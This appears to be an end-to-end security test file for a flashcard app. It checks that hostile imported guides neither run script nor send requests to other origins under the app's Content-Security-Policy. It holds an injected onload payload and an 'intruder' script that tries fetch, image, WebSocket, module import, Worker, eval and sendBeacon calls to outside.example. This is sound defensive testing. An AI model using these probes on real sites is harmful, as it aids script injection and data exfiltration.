import { readFile } from "node:fs/promises";
import { expect, inject, it } from "vitest";
import { makeProfile, openBrowser } from "./harness/browser.ts";
import { beginJourney, type Journey } from "./harness/journey.ts";
import { Person } from "./harness/person.ts";
import { serveWithHeaders } from "./header-host.ts";
import { setTrap } from "./trap.ts";

const hostile = await readFile("tests/e2e/fixtures/hostile.txt", "utf8");
const asPage = `<!doctype html><html><head><title>Southgate</title></head><body onload="alert('body')">
<h1>Southgate</h1>${hostile
  .replaceAll(/^# .*$/gm, "")
  .replaceAll(/^## (.*)$/gm, "<h2>$1</h2>")
  .replaceAll(/^- (.*)$/gm, "<ul><li>$1</li></ul>")}</body></html>`;

/** Watches for what must never happen: a request to another origin, and a payload that ran. */
function watch({ browser, host }: Journey) {
  const [elsewhere, ran]: [string[], string[]] = [[], []];
  const isOurs = (url: string) => url.startsWith(host.url) || /^(?:about|blob|data):/.test(url);
  browser.context.on("request", (request) => {
    if (!isOurs(request.url())) elsewhere.push(request.url());
  });
  browser.context.on("page", (page) => ran.push(`a page was opened: ${page.url()}`));
  browser.page.on("dialog", async (dialog) => {
    ran.push(dialog.message());
    await dialog.dismiss();
  });
  browser.page.on("framenavigated", (frame) => {
    if (!isOurs(frame.url())) elsewhere.push(frame.url());
  });
  return { elsewhere, ran };
}

/** What is on the screen and could load, run or send something. */
const dangerous = (person: Person): Promise<string[]> =>
  person.page.evaluate(() => {
    const isHarmless = (element: Element): boolean => {
      if (!(element instanceof HTMLAnchorElement)) return false;
      const href = element.getAttribute("href") ?? "";
      if (href.startsWith("#")) return true;
      const isOutside = /^(?:https?:|mailto:)/i.test(href) && element.target === "_blank";
      return isOutside && element.rel === "noopener noreferrer" && !element.ping;
    };
    // Lists are laid out by the app, which sets their styles by script; nothing that a guide holds is around an item.
    const isListLaidOut = (element: Element): boolean =>
      element.getAttributeNames().join() === "style" &&
      element.querySelector(":scope > [role=listitem], :scope > * > [role=listitem]") !== null;
    const elements = document.querySelectorAll(
      "#root :is(a, script, style, link, meta, base, iframe, object, embed, img, video, audio, form, [style], svg image)",
    );
    const handlers = [...document.querySelectorAll("#root *")].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith("on") || name === "srcdoc"),
    );
    return [
      ...[...elements].filter((element) => !isHarmless(element) && !isListLaidOut(element)),
      ...handlers,
    ].map((element) => element.outerHTML.slice(0, 200));
  });

/** A list holds nothing in the moment before it is laid out. */
const findsNoDanger = (person: Person) => expect.poll(() => dangerous(person)).toEqual([]);

/** Opens all folds, so that everything there is lies on the screen. */
async function unfold(person: Person): Promise<void> {
  await person.page.evaluate(() => {
    for (const fold of document.querySelectorAll("details")) fold.open = true;
  });
}

const decksOfGuides = async (person: Person): Promise<string[]> =>
  (await person.rows<{ id: string; origin: string }>("decks"))
    .filter(({ origin }) => origin === "guide")
    .map(({ id }) => id);

/** Looks the guide over, keeps it, and opens its deck and the pages of two of its cards. */
async function keepAndLookAt(person: Person): Promise<void> {
  await person.button("Keep deck").waitFor();
  await unfold(person);
  await findsNoDanger(person);
  await person.button("Keep deck").click();
  await person.page.getByText(/^Kept/).waitFor();
  // However it comes, it is found to be the same guide.
  const [deck, ...others] = await decksOfGuides(person);
  expect(others).toEqual([]);
  const cards = await person.rows<{ id: string; deck: string; retired: boolean }>("cards");
  const inUse = cards.filter((card) => card.deck === deck && !card.retired);
  expect(inUse.length).toBeGreaterThan(1);
  const pages = inUse.slice(0, 2).map(({ id }) => `#/cards/${encodeURIComponent(id)}`);
  for (const route of [`#/decks/${encodeURIComponent(deck ?? "")}`, ...pages]) {
    await person.open(route);
    await person.page.getByRole("heading", { level: 1 }).waitFor();
    await unfold(person);
    await findsNoDanger(person);
  }
}

/** Pastes as from a browser's window: the text, and the same as a page. */
const pasteRich = (person: Person, text: string, html: string): Promise<void> =>
  person.page.getByRole("textbox", { name: "Paste a guide" }).evaluate(
    (field, [plain, rich]) => {
      const clipboardData = new DataTransfer();
      clipboardData.setData("text/plain", plain ?? "");
      clipboardData.setData("text/html", rich ?? "");
      field.dispatchEvent(
        new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }),
      );
    },
    [text, html],
  );

/** Shares a guide to the app as the system's share sheet does. */
async function share(person: Person, content: string, name: string | null): Promise<void> {
  await person.page.evaluate(
    async ([text, file]) => {
      const form = new FormData();
      if (file) form.set("guide", new File([text ?? ""], file));
      else form.set("text", text ?? "");
      await fetch("./share", { method: "POST", body: form });
    },
    [content, name],
  );
  await person.open("#/decks/add/incoming");
}

it("the trap catches what a page asks of another origin", async () => {
  const trap = await setTrap();
  const journey = await beginJourney({ flags: trap.flags });
  const watched = watch(journey);
  await journey.browser.page.goto("http://outside.example/").catch(() => {});
  expect(trap.caught).toEqual(["http://outside.example/"]);
  expect(watched.elsewhere).toContain("http://outside.example/");
});

it("nothing leaves the device and nothing runs, whatever a guide holds and however it comes", async () => {
  const trap = await setTrap();
  const journey = await beginJourney({ flags: trap.flags });
  const { person, browser } = journey;
  const { page } = person;
  const watched = watch(journey);
  await person.readyForOffline();

  await person.open("#/decks/add");
  await page.getByRole("textbox", { name: "Paste a guide" }).fill(hostile);
  await person.button("Read it").click();
  await keepAndLookAt(person);

  await person.open("#/decks/add");
  await page.getByRole("textbox", { name: "Paste a guide" }).fill("x");
  await page.getByRole("textbox", { name: "Paste a guide" }).selectText();
  await pasteRich(person, "y".repeat(60_000), asPage);
  await person.button("Read it").click();
  await keepAndLookAt(person);

  await share(person, hostile, null);
  await keepAndLookAt(person);
  await share(person, asPage, "guide.html");
  await keepAndLookAt(person);

  await person.open("#/settings");
  await page.getByLabel(/New cards/).fill("60");
  await page.keyboard.press("Tab");
  await person.button("Check my data").click();
  await page.getByText(/^All is well/).waitFor();
  await person.open("#/practice");
  const [brought] = await decksOfGuides(person);
  const isAsked = async () =>
    (await person.rows<{ card: string }>("reviews")).filter(({ card }) =>
      card.startsWith(`${brought}/`),
    ).length;
  for (let count = 1; count <= 60 && (await isAsked()) < 2; count += 1) {
    await person.button("Show answer").waitFor();
    await findsNoDanger(person);
    await person.button("Show answer").click();
    await person.button("Easy").waitFor();
    await unfold(person);
    await findsNoDanger(person);
    await person.button("Easy").click();
    await page.locator(`[role="progressbar"][aria-valuenow="${count}"]`).waitFor();
  }
  expect(await isAsked()).toBe(2);

  for (const route of ["", "#/progress", "#/decks", "#/interviews/new", "#/settings"]) {
    await person.open(route);
    await page.getByRole("heading").first().waitFor();
  }
  await page.reload();
  await page.getByRole("heading").first().waitFor();
  expect(await page.evaluate(() => document.title)).toContain("Rehearse");
  expect(watched).toEqual({ elsewhere: [], ran: [] });
  expect(trap.caught).toEqual([]);
  expect(browser.context.pages()).toHaveLength(1);
});

/** What a script could try, as the text that it would be. Tells what it has reached. */
const intruder = `(async () => {
  const reached = [];
  const loaded = (made, url) => new Promise((resolve, reject) => {
    Object.assign(made, { onload: resolve, onopen: resolve, onerror: reject });
    if (url) made.src = url;
  });
  const ways = {
    fetch: () => fetch("http://outside.example/fetch", { mode: "no-cors" }),
    picture: () => loaded(new Image(), "http://outside.example/picture.png"),
    socket: () => loaded(new WebSocket("ws://outside.example/socket")),
    module: () => import("http://outside.example/module.js"),
    worker: () => loaded(new Worker("http://outside.example/worker.js")),
    code: async () => eval("1"),
  };
  for (const [name, go] of Object.entries(ways)) {
    try {
      await go();
      reached.push(name);
    } catch {}
  }
  navigator.sendBeacon("http://outside.example/beacon", "x");
  return reached;
})()`;

it("a script that got in all the same could reach nothing outside", async () => {
  const trap = await setTrap();
  const { person } = await beginJourney({ flags: trap.flags });
  const reached = await person.page.evaluate(intruder);
  expect(reached).toEqual([]);
  expect(trap.caught).toEqual([]);
});

it("the app works under the headers that it brings for its host, its workers too", async () => {
  const host = await serveWithHeaders(inject("builtApp"));
  expect(host.headers["Content-Security-Policy"]).toMatch(/^default-src 'none'; .*frame-ancestors/);
  const trap = await setTrap();
  const browser = await openBrowser(await makeProfile(), { flags: trap.flags });
  const person = new Person(browser.page, host.url);
  const refused: string[] = [];
  person.page.on("console", (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) refused.push(message.text());
  });
  await person.open();
  await person.readyForOffline();
  await person.open("#/decks/add");
  await person.page.getByRole("textbox", { name: "Paste a guide" }).fill(hostile);
  await person.button("Read it").click();
  await keepAndLookAt(person);
  expect(refused).toEqual([]);
  // What a worker of the app could try: it obeys the policy of its own file.
  const [worker] = browser.context.serviceWorkers();
  const isRefused = await worker?.evaluate(() =>
    fetch("http://outside.example/worker", { mode: "no-cors" }).then(
      () => false,
      () => true,
    ),
  );
  expect(isRefused).toBe(true);
  expect(trap.caught).toEqual([]);
});
